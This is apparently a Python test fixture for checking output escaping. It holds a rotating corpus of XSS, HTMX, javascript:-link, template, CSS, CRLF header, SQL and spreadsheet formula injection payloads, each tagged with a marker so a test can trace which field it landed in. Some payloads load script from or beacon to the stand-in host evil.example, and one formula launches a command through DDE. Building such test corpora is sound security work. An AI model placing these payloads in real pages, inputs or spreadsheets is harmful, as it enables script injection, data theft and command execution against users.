"""What nobody should be able to do with a text: payloads, and how each field of the tests gets its own.

`Corpus.text` hands them out in turn and ends each with a sign of its own, `§17§`, by which the text of one field is
found again. What the payloads would ask for if they worked lies below /stolen, and what they would call is `alert`.
"""

import re
import unicodedata
from itertools import cycle
from typing import Final

MARKUP: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</ScRiPt ><img src=x onerror=alert(1)>",
    "<!--<script>",
    "--><img src=/stolen?c onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>",
    "<img src=/stolen?img>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a href=javascript:alert(1)><text>x",
    "<svg><use href=data:image/svg+xml,x#x>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=/stolen?embed>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=/stolen>",
    "<link rel=stylesheet href=/stolen.css>",
    "<form action=/stolen><button autofocus>x",
    "<button formaction=javascript:alert(1)>x",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style></select></option><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    '" style="position:fixed;inset:0" x="',
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
)
HTMX: Final = (
    "<div hx-get=/stolen?a hx-trigger=load>",
    "<b hx-get='/stolen?b' hx-trigger='revealed, load'>x</b>",
    "<p data-hx-post=/stolen?c data-hx-trigger=load>",
    "<i hx-on:htmx:load=alert(1) hx-on::load=alert(1)>",
    "<i hx-on='load: alert(1)'>",
    "<div hx-ext=sse sse-connect=/stolen?d>",
    "<i hx-vals='js:{a:alert(1)}' hx-get=/stolen?e hx-trigger='every 1s'>",
    '" hx-get="/stolen?f" hx-trigger="load',
    "<hx-partial hx-target=body><h1>x</h1></hx-partial>",
    "<div hx-boost=true hx-swap-oob=true id=main>",
)
LINKS: Final = (
    "javascript:alert(1)//",
    "JaVaScRiPt&colon;alert(1)",
    "java\tscript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](//evil.example)",
    "[x](https://a.example/ 'a\" onmouseover=alert(1) ')",
    "![x](https://evil.example/x.png)",
    "<javascript:alert(1)>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=/stolen?g ping=//evil.example>x</a>",
)
TEMPLATES: Final = ("{{ 7*7 }}{% raw %}", "${7*7}#{7*7}", "%(name)s %s %d {0}", "{{ self.__init__.__globals__ }}")
STYLES: Final = ("<style>*{display:none}</style>", "}body{background:url(//evil.example)}", "x;background:url(/stolen)")
SIGNS: Final = (
    "\u202egpj.exe\u202c Anne",
    "\u2066a\u2069\u200bb\u200f",
    "A\u0301\u0301\u0301\u0301\u0301\u0301 Zalgo",
    "Anne\r\nBcc: evil@evil.example",
    "Anne%0d%0aSet-Cookie: a=b",
    "=?UTF-8?Q?Anne=0D=0ABcc:=20evil=40evil.example?=",
    "a\u2028b\u2029c",
    "'; drop table store; --",
)
FORMULAS: Final = (
    '=HYPERLINK("//evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "\t=1+1",
    "\r=1+1",
)
"""What a spreadsheet would reckon with. Each begins its cell, so it begins its text."""
POLYGLOT: Final = (
    "\"'--></title></script></textarea><img src=/stolen?p onerror=alert(1)><i hx-get=/stolen?q hx-trigger=load>{{7*7}}"
)
"""What breaks out of most places at once: it goes before the payload wherever there is room."""
PAYLOADS: Final = (*MARKUP, *HTMX, *LINKS, *TEMPLATES, *STYLES, *SIGNS, *FORMULAS)


class Corpus:
    """Hands out payloads, and remembers which field got which."""

    def __init__(self) -> None:
        self.told: dict[int, str] = {}
        self.fields: dict[int, str] = {}
        self._turn = cycle(PAYLOADS)

    def text(self, field: str, limit: int = 120, *, without: str = "") -> str:
        """The next payload that leaves room for its sign, for this field; `without` these signs."""
        number = len(self.told) + 1
        sign = f"§{number}§"
        payload = next(one for one in self._turn if len(one) + len(sign) <= limit and not set(one) & set(without))
        room = len(POLYGLOT) + len(payload) + len(sign) + 1 <= limit and payload not in FORMULAS and not without
        return self._keep(number, field, f"{POLYGLOT} {payload}{sign}" if room else f"{payload}{sign}")

    def everything(self, field: str) -> str:
        """All of them, a line each: for texts that are long."""
        number = len(self.told) + 1
        return self._keep(number, field, "\n".join(f"{one} x" for one in PAYLOADS) + f"\n§{number}§")

    def label(self, number: int) -> str:
        return f"{self.fields[number]}: {self.told[number]!r}"

    def _keep(self, number: int, field: str, text: str) -> str:
        self.told[number], self.fields[number] = text, field
        return text


def bare(text: str) -> str:
    """Without what nobody sees: blanks, marks of direction, control signs, encoded words; apostrophes alike."""
    composed = unicodedata.normalize("NFC", text).replace("’", "'").replace("…", "...")
    seen = "".join(one for one in composed if not one.isspace() and unicodedata.category(one) not in ("Cc", "Cf"))
    while seen != (seen := re.sub(r"=\?|\?=", "", seen)):
        pass
    return seen
